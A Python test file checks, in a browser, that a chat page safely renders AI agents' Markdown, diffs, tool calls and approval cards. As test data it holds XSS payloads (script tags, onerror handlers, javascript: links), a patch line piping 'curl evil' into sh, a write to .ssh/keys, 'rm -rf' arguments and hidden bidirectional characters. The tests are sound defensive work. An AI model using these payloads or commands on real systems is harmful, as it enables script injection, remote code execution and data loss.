"""How the chat page shows what agents say, in a browser: Markdown, diffs, tool calls; and malicious answers."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.web.browser import ALT, ENTER, Browser, browser, needs_browser
from tests.web.servers import Server

pytestmark = [pytest.mark.timeout(300), pytest.mark.slow]

DONE: dict[str, Any] = {"type": "done", "result": {"session_id": "s", "text": "", "duration_ms": 1.0}}


class Stage:
    """A page on which an agent says what a test has written."""

    def __init__(self, folder: Path, page: Browser) -> None:
        self.folder = folder
        self.page = page

    def play(self, *events: dict[str, Any], name: str = "script") -> Browser:
        """Show these events in a new conversation, to the end."""
        self.start(*events, name=name)
        self.page.turns_done(1)
        return self.page

    def start(self, *events: dict[str, Any], name: str = "script") -> None:
        lines = (json.dumps(event) for event in (*events, DONE))
        (self.folder / name).write_text("\n".join(lines), encoding="utf-8")
        self.page.click("#fresh")
        self.page.until(lambda: self.page.count(".agent") == 0)
        self.page.type(name + ENTER)

    def say(self, text: str, pieces: int = 0) -> Browser:
        """Show a text, whole or in pieces of this many characters."""
        size = pieces or len(text) or 1
        return self.play(*said(text[at : at + size] for at in range(0, len(text), size)))


def said(pieces: Iterable[str]) -> list[dict[str, Any]]:
    return [{"type": "text", "text": piece} for piece in pieces]


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """One server and one browser for all tests here; each test has its own conversation."""
    needs_browser()
    folder = tmp_path_factory.mktemp("stage")
    with (
        Server("-m", "tests.web.scripted_site", str(folder), folder=folder / "server") as server,
        browser(tmp_path_factory.mktemp("b"), width=1100, height=850) as page,
    ):
        page.open(server.address)
        yield Stage(folder, page)


@pytest.fixture
def shown(stage: Stage) -> Iterator[Stage]:
    """The stage; afterwards, checks that nothing went wrong on it."""
    yield stage
    assert stage.page.complaints() == [], "the browser has nothing to complain about"


def structure(page: Browser) -> Any:
    """The answer as nested names and texts."""
    return page.script(
        """
        const walk = (node) => node.nodeType === 3 ? node.data
          : [node.localName, ...[...node.childNodes].map(walk)];
        return [...document.querySelectorAll(".agent .text .part")].flatMap((part) => [...part.childNodes].map(walk));
        """
    )


MARKDOWN = """\
# Title
Some **bold**, *slanted*, ~~gone~~ and `co*de*` words; snake_case_name and 2 * 3 * 4 stay.

- one
- two
  1. inner
  2. more
- [x] finished

> quoted **text**
> goes on

| a | b |
|---|--:|
| 1 | `x\\|y` |

```python
def f():
\treturn "<b>"

f()
```
***
Last line
"""


@pytest.mark.parametrize("pieces", [0, 1, 7], ids=["at once", "letter by letter", "in sevens"])
def test_markdown_is_the_same_however_it_streams_in(pieces: int, shown: Stage) -> None:
    page = shown.say(MARKDOWN, pieces)
    found = structure(page)
    assert found[0] == ["h2", "Title"]
    assert found[1][:6] == ["p", "Some ", ["strong", "bold"], ", ", ["em", "slanted"], ", "]
    assert found[1][6:9] == [["del", "gone"], " and ", ["code", "co*de*"]]
    assert "".join(found[1][9:]) == " words; snake_case_name and 2 * 3 * 4 stay."
    inner = ["ol", ["li", ["p", "inner"]], ["li", ["p", "more"]]]
    done = ["li", ["span", "☑ "], ["p", "finished"]]
    assert found[2] == ["ul", ["li", ["p", "one"]], ["li", ["p", "two"], inner], done]
    assert found[3][0] == "blockquote"
    assert page.text(".agent blockquote") == "quoted text\ngoes on"
    assert [cell.text for cell in page.driver.find_elements("css selector", ".agent td")] == ["1", "x|y"]
    assert page.find(".agent td + td").get_attribute("class") == "right"
    assert page.text(".agent .code code") == 'def f():\n\treturn "<b>"\n\nf()\n'
    assert page.text(".agent .code-head span") == "python"
    assert [node[0] for node in found][-2:] == ["hr", "p"]
    page.screenshot("30-markdown")


def test_a_copy_button_copies_the_code_as_it_was_written(shown: Stage) -> None:
    page = shown.say("```make\nall:\n\techo  'a'\n\n```\n")
    page.script(
        "window.copied = null; Object.defineProperty(navigator, 'clipboard', {configurable: true,"
        " value: {writeText: async (text) => { window.copied = text; }}})"
    )
    page.click(".code .copy")
    page.until(lambda: page.text(".code .copy") == "Copied")
    assert page.script("return window.copied") == "all:\n\techo  'a'\n"


def test_a_link_shows_where_it_leads(shown: Stage) -> None:
    page = shown.say(
        "[https://bank.example](https://evil.example/x) [a](https://good.example@evil.example/) "
        "https://plain.example/a_b_c. (see https://plain.example/b) <https://angled.example/>"
    )
    links = page.script(
        "return [...document.querySelectorAll('.agent .link')].map((link) =>"
        " [link.textContent, ...['href', 'rel', 'target'].map((name) => link.querySelector('a')[name])])"
    )
    safe = ["noopener noreferrer nofollow", "_blank"]
    assert links == [
        ["https://bank.example (evil.example)", "https://evil.example/x", *safe],
        ["a (evil.example)", "https://good.example@evil.example/", *safe],
        ["https://plain.example/a_b_c", "https://plain.example/a_b_c", *safe],
        ["https://plain.example/b", "https://plain.example/b", *safe],
        ["https://angled.example/", "https://angled.example/", *safe],
    ]


HOSTILE = {
    "html": "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
    "<iframe src=javascript:alert(1)></iframe><svg onload=alert(1)><style>*{display:none}</style>",
    "javascript links": "[a](javascript:document.title='owned') [b](JaVaScRiPt:alert) [c]( javascript:alert(1) ) "
    "[d](<javascript:alert(1)>) [e](data:text/html,<script>1</script>) [f](vbscript:x) [g](java\tscript:alert(1)) "
    "[h](&#106;avascript:alert(1)) [i](//evil.example) [j](file:///etc/passwd) <javascript:alert(1)>",
    "images": "![x](https://evil.example/pixel.png) ![](//evil.example/p) ![y](data:image/png;base64,AAAA) "
    "[![z](https://evil.example/z.png)](javascript:alert(1))",
    "html in code": "```html\n<script>document.title='owned'</script>\n``` \n`<img src=x onerror=alert(1)>`",
    "html in a table": "|<b>a</b>|<script>1</script>|\n|-|-|\n|<img src=x>|<a href=javascript:alert(1)>x</a>|",
    "the language of a fence": '```"><img/src=x/onerror=alert(1)>\ncode\n```',
}


@pytest.mark.parametrize("pieces", [0, 3], ids=["at once", "in threes"])
@pytest.mark.parametrize("what", HOSTILE)
def test_an_answer_is_never_markup_script_or_a_remote_image(what: str, pieces: int, shown: Stage) -> None:
    page = shown.say(HOSTILE[what], pieces)
    assert page.count("#log script, #log img, #log iframe, #log svg, #log style, #log object, #log form") == 0
    addresses = page.script("return [...document.querySelectorAll('#log a')].map((link) => link.href)")
    assert all(address.startswith("https://evil.example/") for address in addresses), addresses
    handlers = (
        "return [...document.querySelectorAll('#log *')]"
        ".filter((one) => [...one.attributes].some((a) => /^on/.test(a.name))).length"
    )
    assert page.script(handlers) == 0
    loaded = page.script("return performance.getEntriesByType('resource').map((one) => new URL(one.name).host)")
    assert set(loaded) == {page.script("return location.host")}, "nothing is asked of another server"
    assert page.driver.title == "remoteclaw-sync"
    assert page.driver.window_handles == [page.driver.current_window_handle]


def test_the_browser_itself_would_refuse_markup_and_remote_images(stage: Stage) -> None:
    """If a mistake of ours let something in, the content security policy would stop it."""
    page = stage.say("hello")
    refused = page.script(
        "try { document.body.innerHTML = '<b>x</b>'; return 'taken' } catch (error) { return error.name }"
    )
    assert refused == "TypeError", "Trusted Types"
    page.script("const one = new Image(); one.src = 'http://127.0.0.1:1/pixel.png'; document.body.append(one)")
    page.until(lambda: any("img-src" in line for line in page.complaints()))
    page.script(
        "const one = document.createElement('a'); one.href = 'javascript:document.title=1';"
        "document.body.append(one); one.click()"
    )
    page.until(lambda: any("script-src" in line for line in page.complaints()))
    assert page.driver.title == "remoteclaw-sync"
    page.reload()
    page.until(lambda: page.count(".cost") == 1)
    page.complaints()


BROKEN = {
    "a fence without an end": "```python\nprint(1)\n",
    "a fence in a fence": "````\n```\ninner\n```\n````\nafter",
    "a table without rows": "|a|b|\n|-|-|",
    "a table of one row that is too long": "|a|b|\n|-|-|\n" + "|x" * 5000 + "|",
    "many columns": "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "|1" * 500 + "|",
    "stars": "*" * 20_000,
    "brackets": "[" * 20_000 + "]" * 20_000 + "(" * 9000,
    "half links": "[a](" * 8000,
    "quotations": ">" * 9000 + " deep",
    "lists": "\n".join("  " * depth + "- x" for depth in range(200)),
    "backticks": "".join("`" * length + " " for length in range(1, 300)),
    "emphasis": "*a **b " * 5000,
    "one long line": "word " * 60_000,
    "one long word": "w" * 200_000,
    "nothing but newlines": "\n" * 50_000,
    "odd letters": "a\u202eb\u2028c\x00d\ufeff \ud83d\ude00 \U0001f600 \u0301",
    "half a pair": "before \\ud800 after",
}


@pytest.mark.parametrize("what", BROKEN)
def test_a_broken_answer_is_shown_and_the_page_stays_usable(what: str, shown: Stage) -> None:
    page = shown.say(BROKEN[what], 5000)
    wide, visible = page.script("return [document.documentElement.scrollWidth, innerWidth]")
    assert wide <= visible
    letters = "".join(letter for letter in BROKEN[what] if letter.isalnum())[:200]
    answer = "".join(letter for letter in page.text(".agent .text") if letter.isalnum()) if letters else ""
    answer = answer.replace("pythonCopy", "python")  # The header of a block of code.
    assert letters[:10] in answer
    page.type("next")
    assert page.find("#prompt").get_attribute("value") == "next"
    page.find("#prompt").clear()


# --- tools ---------------------------------------------------------------------------------------------------------


def tool(name: str, arguments: dict[str, Any], output: str = "ok", number: int = 1, failed: bool = False) -> list[Any]:
    use = {"type": "tool_use", "tool_name": name, "tool_id": f"t{number}", "input": arguments}
    return [use, {"type": "tool_result", "tool_id": f"t{number}", "output": output, "is_error": failed}]


EDITS: dict[str, dict[str, Any]] = {
    "old and new": {"file_path": "a.py", "old_string": "x\nold\ny", "new_string": "x\nnew\ny"},
    "camel case": {"filePath": "a.py", "oldString": "x\nold\ny", "newString": "x\nnew\ny"},
    "several": {"file_path": "a.py", "edits": [{"old_string": "old", "new_string": "new"}]},
    "a patch": {"changes": [{"path": "a.py", "kind": "update", "diff": "@@ -1,3 +1,3 @@\n x\n-old\n+new\n y\n"}]},
    "a patch in words": {"patchText": "*** Begin Patch\n*** Update File: a.py\n@@\n-old\n+new\n*** End Patch"},
}


@pytest.mark.parametrize("what", EDITS)
def test_an_edit_is_a_diff_whatever_the_agent_calls_its_parts(what: str, shown: Stage) -> None:
    page = shown.play(*tool("Edit", EDITS[what]))
    assert page.shows("details.edit .diff-lines")
    lines = page.script(
        "return ['remove', 'add'].map((kind) => [...document.querySelectorAll(`.line.${kind}`)]"
        ".map((one) => one.textContent))"
    )
    assert lines == [["−removed: old"], ["+added: new"]], "signs and words, not colours alone"
    page.screenshot("31-diff")


def test_a_new_file_is_all_additions_and_a_deleted_one_all_removals(shown: Stage) -> None:
    gone = [{"path": "b.py", "kind": kind, "diff": "three\n"} for kind in ("delete", {"type": "delete"})]
    page = shown.play(
        *tool("Write", {"file_path": "a.py", "content": "one\ntwo\n"}),
        *tool("file_change", {"changes": gone}, number=2),
    )
    assert [page.count(".line.add"), page.count(".line.remove")] == [2, 2]
    assert page.text("details.tool:last-of-type .path") == "b.py (deleted)"


def test_a_tool_call_has_input_output_time_and_its_failure(shown: Stage) -> None:
    page = shown.play(*tool("Bash", {"command": "make", "description": "Build it"}, "boom <b>", failed=True))
    assert page.text("details.tool .gist") == "make"
    assert page.text("details.tool summary .label").strip() == "failed", "in words, for a screen reader"
    assert page.text("details.tool .time").endswith(" s")
    page.click("details.tool summary")
    page.until(lambda: page.count("details.tool .output"))
    assert page.text("details.tool .command") == "make"
    assert page.text("details.tool .output") == "boom <b>"


def test_a_giant_output_is_shown_in_part_until_somebody_wants_it_all(shown: Stage) -> None:
    page = shown.play(*tool("Bash", {"command": "cat"}, "line\n" * 40_000))
    page.click("details.tool summary")
    page.until(lambda: page.count("details.tool .output"))
    assert len(page.text("details.tool .output")) < 25_000
    page.click(".more-text")
    page.until(lambda: len(page.text("details.tool .output")) == 200_000)


def test_thinking_is_folded_and_a_warning_is_not_an_error(shown: Stage) -> None:
    page = shown.play(
        {"type": "thinking", "text": "Hmm, *well*."},
        {"type": "error", "message": "a retry", "code": "CLI_WARNING"},
        {"type": "error", "message": "it broke", "code": "CLI_ERROR"},
    )
    assert not page.shows(".thinking .thought")
    page.click(".thinking summary")
    assert page.find(".thinking .thought").text == "Hmm, well."
    assert (page.text(".agent .warning"), page.text(".agent .error")) == ("a retry", "it broke")


def test_the_agent_is_changed_in_place_between_turns_and_the_next_says_what_it_knows(shown: Stage) -> None:
    page = shown.play(*said(["the first agent's words"]))
    page.click("#provider option[value=other]")
    (shown.folder / "next").write_text(
        "\n".join(json.dumps(event) for event in (*said(["the other's words"]), {"type": "wait", "for": "go"}, DONE)),
        encoding="utf-8",
    )
    page.type("next" + ENTER)
    page.until(lambda: "the other's words" in page.text())
    assert not page.find("#provider").is_enabled(), "a turn is one agent's"
    (shown.folder / "go").touch()
    page.turns_done(2)
    for _ in range(2):
        assert page.text(".note") == "From here on with other, which knows only what was said to it."
        whose = "return [...document.querySelectorAll('.agent .who')].map((one) => one.textContent)"
        assert page.script(whose) == ["demo", "other"]
        assert page.find("#provider").get_attribute("value") == "other"
        page.reload()
        page.turns_done(2)
    page.click("#provider option[value=demo]")


USED: dict[str, Any] = {
    "type": "done",
    "result": {
        "session_id": "s",
        "duration_ms": 1.0,
        "total_cost_usd": 0.5,
        "usage": {"input_tokens": 100, "output_tokens": 20, "cache_read_tokens": 60, "cache_write_tokens": 0},
    },
}


@pytest.mark.parametrize(("provider", "tokens", "context"), [("demo", 180, 60), ("other", 120, 40)])
def test_what_was_read_from_a_cache_is_counted_once_and_the_context_is_that_of_one_request(
    provider: str, tokens: int, context: int, shown: Stage
) -> None:
    """The model was asked three times: at the start, and after the outputs of each of two rounds of tools."""
    page = shown.page
    page.click(f"#provider option[value={provider}]")
    first, second = tool("Bash", {"command": "a"}), tool("Bash", {"command": "b"}, number=2)
    together = tool("Bash", {"command": "c"}, number=3)
    calls = [*first, second[0], together[0], second[1], together[1]]
    shown.play(*said(["one "]), *calls, *said(["two ", "three"]), USED)
    assert f"1 turn · {tokens} tokens · $0.5000 · context about {context}" in page.text("#totals")
    page.click("#provider option[value=demo]")


# --- approvals -----------------------------------------------------------------------------------------------------


def asking(name: str, arguments: dict[str, Any], number: int = 1, **fields: Any) -> dict[str, Any]:
    request = {"id": f"r{number}", "tool_name": name, "input": arguments, "session_id": "s", **fields}
    return {"type": "permission", "request": request}


UNSEEN = "a\u202eb\u200bc\x1b[2Kd\r"
SHOWN = "a\\u{202e}b\\u{200b}c\\u{1b}[2Kd\\u{d}"
DECIDED_ON: dict[str, tuple[dict[str, Any], str]] = {
    "a command": (asking("Bash", {"command": UNSEEN, "description": "ls"}), ".card .command"),
    "what a command says it does": (asking("Bash", {"command": "rm x", "description": UNSEEN}), ".card .about"),
    "where a command runs": (asking("Bash", {"command": "rm x", "cwd": UNSEEN}), ".card .about"),
    "other arguments": (asking("mcp__x__y", {"where": {"deep": ["\u202eevil"]}}), ".card .input"),
    "a file's name": (asking("Write", {"file_path": UNSEEN, "content": "x"}), ".card .path"),
    "a file's content": (asking("Write", {"file_path": "a", "content": UNSEEN}), ".card .line.add"),
    "a tool's name": (asking(UNSEEN, {"x": 1}), ".card h3"),
    "a reason": (asking("Bash", {"command": "ls"}, reason=UNSEEN), ".card .reason"),
    "a question": (asking("Ask", {}, questions=[{"question": UNSEEN, "options": []}]), ".card legend"),
    "an option": (asking("Ask", {}, questions=[{"question": "?", "options": [{"label": UNSEEN}]}]), ".card .option"),
}


@pytest.mark.parametrize("what", DECIDED_ON)
def test_what_somebody_decides_on_has_no_character_that_hides_or_turns_around(what: str, shown: Stage) -> None:
    event, selector = DECIDED_ON[what]
    page = shown.page
    shown.start(event, {"type": "wait", "for": "looked"})
    assert ("\\u{202e}evil" if what == "other arguments" else SHOWN) in page.text(selector)
    assert "\u202e" not in page.text(".card")
    (shown.folder / "looked").touch()
    page.turns_done(1)
    (shown.folder / "looked").unlink()


BESIDES: dict[str, tuple[dict[str, Any], str]] = {
    "a switch": ({"file_path": "a", "old_string": "x", "new_string": "y", "replace_all": True}, '"replace_all": true'),
    "a switch of one of several": (
        {"file_path": "a", "edits": [{"old_string": "x", "new_string": "y", "replace_all": True}]},
        '"replace_all": true',
    ),
    "an edit of another shape": (
        {"file_path": "a", "edits": [{"old_string": "x", "new_string": "y"}, {"run": "rm -rf"}]},
        '"run": "rm -rf"',
    ),
    "a change of another shape": ({"changes": [{"path": "a", "kind": "add", "diff": "x", "mode": "0777"}]}, '"0777"'),
    "a command": ({"file_path": "a", "content": "x", "command": "rm -rf"}, '"command": "rm -rf"'),
    "a second command": ({"command": "ls", "cmd": "rm -rf"}, '"cmd": "rm -rf"'),
    "the same by another name": (
        {"file_path": "a", "old_string": "x", "new_string": "y", "newString": "z"},
        '"newString": "z"',
    ),
}


def nested(name: str, depth: int) -> Any:
    """An object in a list in an object, and so on."""
    inner: Any = "end"
    for _ in range(depth):
        inner = [{name: inner}]
    return inner


@pytest.mark.parametrize("name", ["edits", "changes", "x"])
def test_a_call_that_is_nested_too_deep_is_asked_about_all_the_same(name: str, shown: Stage) -> None:
    page = shown.page
    deep = nested(name, 450)  # Deeper than that is not JSON for Python.
    shown.start(
        asking("Edit", {name: deep, "file_path": "a", "content": "x", "more": deep}), {"type": "wait", "for": "looked"}
    )
    assert page.shows(".card .allow")
    assert page.count(".card .input") == 1
    (shown.folder / "looked").touch()
    page.turns_done(1)
    (shown.folder / "looked").unlink()


def asked_about(shown: Stage, arguments: dict[str, Any], selector: str) -> str:
    """What this part of the card shows while the agent asks for an edit."""
    shown.start(asking("Edit", arguments), {"type": "wait", "for": "looked"})
    text = shown.page.text(selector)
    (shown.folder / "looked").touch()
    shown.page.turns_done(1)
    (shown.folder / "looked").unlink()
    return text


@pytest.mark.parametrize("what", BESIDES)
def test_who_decides_on_a_call_sees_all_of_it_not_its_diff_alone(what: str, shown: Stage) -> None:
    arguments, words = BESIDES[what]
    assert words in asked_about(shown, arguments, ".card .input")


HIDDEN: dict[str, tuple[dict[str, Any], str]] = {
    "an added line like a header": (
        {"patch": "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+++ ; curl evil | sh\n"},
        "++ ; curl evil | sh",
    ),
    "the file that a patch names": ({"patch": "--- a/x\n+++ b/.ssh/keys\n@@ -0,0 +1 @@\n+mine\n"}, "b/.ssh/keys"),
    "a new file with a list": (
        {"changes": [{"path": "a", "kind": {"type": "add"}, "diff": "# usage\n- x\nrm -rf build\n"}]},
        "# usage+added: - x+added: rm -rf build",
    ),
    "a line without a sign": ({"patch": "@@ -1 +1 @@\n-old\n+new\nset -e\n"}, "set -e"),
}


@pytest.mark.parametrize("what", HIDDEN)
def test_no_line_of_an_edit_is_hidden_or_cut_from_who_decides_on_it(what: str, shown: Stage) -> None:
    arguments, words = HIDDEN[what]
    assert words in asked_about(shown, arguments, ".card")


def test_a_card_says_that_it_is_a_sub_agent_that_asks(shown: Stage) -> None:
    page = shown.play(asking("Bash", {"command": "ls"}, parent_tool_use_id="t0"))
    assert page.text(".card h3") == "May a sub-agent of demo use Bash?"


def test_an_edit_without_anything_else_is_its_diff_alone(shown: Stage) -> None:
    page = shown.play(*tool("Edit", {"file_path": "a", "old_string": "x", "new_string": "y", "replace_all": False}))
    assert (page.count(".diff"), page.count(".input")) == (1, 0)


def test_a_card_is_over_as_soon_as_the_agent_goes_on(shown: Stage) -> None:
    """Somebody has answered in another tab, or it was too late: nobody may decide on what is already decided."""
    page = shown.page
    first, second = asking("Bash", {"command": "one"}), asking("Bash", {"command": "two"}, 2)
    shown.start(first, *said(["well"]), second, {"type": "wait", "for": "looked"})
    page.until(lambda: page.count(".card") == 2)
    assert page.count(".card:not(.answered)") == 1
    assert page.text(".card:not(.answered) .command") == "two"
    assert page.text(".card.answered .outcome") == "Answered elsewhere, or too late: nothing was sent."
    (shown.folder / "looked").touch()
    page.turns_done(1)
    (shown.folder / "looked").unlink()
    assert page.count(".card:not(.answered)") == 0


def test_no_key_decides_on_what_is_out_of_sight_but_leads_there(shown: Stage) -> None:
    page = shown.page
    long = said(f"paragraph {number}\n\n" for number in range(200))
    shown.start(*long, asking("Bash", {"command": "one"}), {"type": "wait", "for": "looked"})
    page.until(lambda: page.count(".card .allow"))
    page.script("document.getElementById('main').scrollTop = 0")
    page.until(lambda: page.text("#latest") == "↓ The agent asks you" and page.shows("#latest"))
    in_sight = (
        "const card = document.querySelector('.card').getBoundingClientRect();"
        "return card.bottom <= document.getElementById('main').getBoundingClientRect().bottom"
    )
    assert not page.script(in_sight)
    page.press(ALT + "y" + ALT)
    page.until(lambda: page.script(in_sight))
    assert page.count(".card:not(.answered) .allow") == 1
    assert not page.shows("#latest")
    (shown.folder / "looked").touch()
    page.turns_done(1)
    (shown.folder / "looked").unlink()


def test_the_end_stays_in_sight_unless_somebody_has_scrolled_up(shown: Stage) -> None:
    page = shown.page
    paragraphs = said(f"paragraph {number}\n\n" for number in range(200))
    shown.start(*paragraphs, {"type": "wait", "for": "scrolled"}, *said(["the end"]))
    page.until(lambda: "paragraph 199" in page.text())
    bottom = (
        "const main = document.getElementById('main'); return main.scrollHeight - main.scrollTop - main.clientHeight"
    )
    page.until(lambda: page.script(bottom) < 5)
    page.script("document.getElementById('main').scrollTop = 100")
    (shown.folder / "scrolled").touch()
    page.turns_done(1)
    assert page.script("return document.getElementById('main').scrollTop") == 100
    page.click("#latest")
    page.until(lambda: page.script(bottom) < 5)
    assert not page.shows("#latest")
